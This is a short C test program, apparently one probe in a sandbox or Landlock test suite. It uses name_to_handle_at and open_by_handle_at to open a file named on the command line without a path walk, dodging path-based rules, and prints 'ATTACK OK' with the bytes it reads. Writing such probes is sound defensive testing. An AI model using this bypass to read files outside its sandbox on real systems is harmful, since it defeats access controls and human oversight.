/* open_by_handle FILE: name_to_handle_at + open_by_handle_at: an open without a
 * path walk, so no path check (and no Landlock path rule) applies. */
#include "common.h"
#include <fcntl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	h->handle_bytes = MAX_HANDLE_SZ;
	int mount_id;
	if (name_to_handle_at(AT_FDCWD, argv[1], h, &mount_id, 0) < 0)
		BLOCKED("name_to_handle_at");
	int mfd = open("/", O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(mfd, h, O_RDONLY);
	if (fd < 0)
		BLOCKED("open_by_handle_at");
	char buf[256] = {0};
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	printf("ATTACK OK read %zd bytes: %s\n", n, buf);
	return 0;
}
